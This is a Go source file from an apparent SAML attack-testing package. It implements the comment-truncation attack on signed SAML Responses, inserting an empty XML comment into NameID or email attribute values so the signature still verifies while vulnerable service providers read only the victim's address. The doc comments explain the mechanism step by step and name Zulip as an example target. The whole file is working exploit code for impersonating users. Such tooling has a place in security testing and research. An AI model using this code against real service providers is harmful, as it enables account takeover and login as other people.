package samlattack

import (
	"strings"

	"github.com/beevik/etree"
)

// CommentInNameID puts an empty comment into every Subject NameID that
// continues a.NameID (default a.Email), right after the victim's part. The
// signatures are left as they are and still verify.
//
// This is the comment-truncation attack (CVE-2017-11427 in python-saml,
// CVE-2017-11428 in ruby-saml, CVE-2017-11429 in saml2-js, CVE-2018-0489 in
// Shibboleth, and others, 2017-2018). The attacker registers at the IdP an
// address that continues the victim's, victim@zulip.com.evil.example, and
// logs in there; the IdP signs a Response for that address. The attacker
// then inserts an empty comment where the victim's address ends:
//
//	<NameID>victim@zulip.com<!---->.evil.example</NameID>
//
// Exclusive canonicalization without comments (xml-exc-c14n#, the one SAML
// uses) drops comments before the digest, so the text it signs is still
// victim@zulip.com.evil.example and the genuine signature verifies. A
// careless reader, though, takes the element's first text node (Python's
// minidom firstChild.data, REXML's text, a token loop that stops at the
// first non-text token), which ends at the comment: victim@zulip.com. The
// verifier and the reader see two different addresses, and the SP logs the
// attacker in as the victim. (Go's encoding/xml Unmarshal and etree's Text
// join the text around a comment, and are not fooled.)
//
// The input needs a signature over the identity (the Response's or the
// Assertion's) and must be issued for an address that continues the
// victim's; for any other input CommentInNameID returns ErrNoPrefix.
func CommentInNameID(signed []byte, a Attacker) ([]byte, error) {
	return comment(signed, a.nameID(), func(assertion *etree.Element) []*etree.Element {
		return nameIDs(assertion)
	})
}

// CommentInEmail puts an empty comment into every value of the email
// attribute (see Attacker.EmailAttribute) that continues a.Email, right
// after the victim's part: CommentInNameID's attack on the attribute an SP
// such as Zulip takes the email from. The signatures are left as they are
// and still verify. It returns ErrNoPrefix when no value continues
// a.Email.
func CommentInEmail(signed []byte, a Attacker) ([]byte, error) {
	return comment(signed, a.Email, a.emailValues)
}

func comment(signed []byte, victim string, texts func(assertion *etree.Element) []*etree.Element) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	if victim == "" {
		return nil, ErrNoPrefix
	}
	n := 0
	for _, as := range assertions(root) {
		for _, el := range texts(as) {
			text := el.Text()
			if len(text) <= len(victim) || !strings.HasPrefix(text, victim) || len(el.ChildElements()) > 0 {
				continue
			}
			for len(el.Child) > 0 {
				el.RemoveChildAt(0)
			}
			el.CreateText(victim)
			el.CreateComment("")
			el.CreateText(text[len(victim):])
			n++
		}
	}
	if n == 0 {
		return nil, ErrNoPrefix
	}
	return write(doc)
}
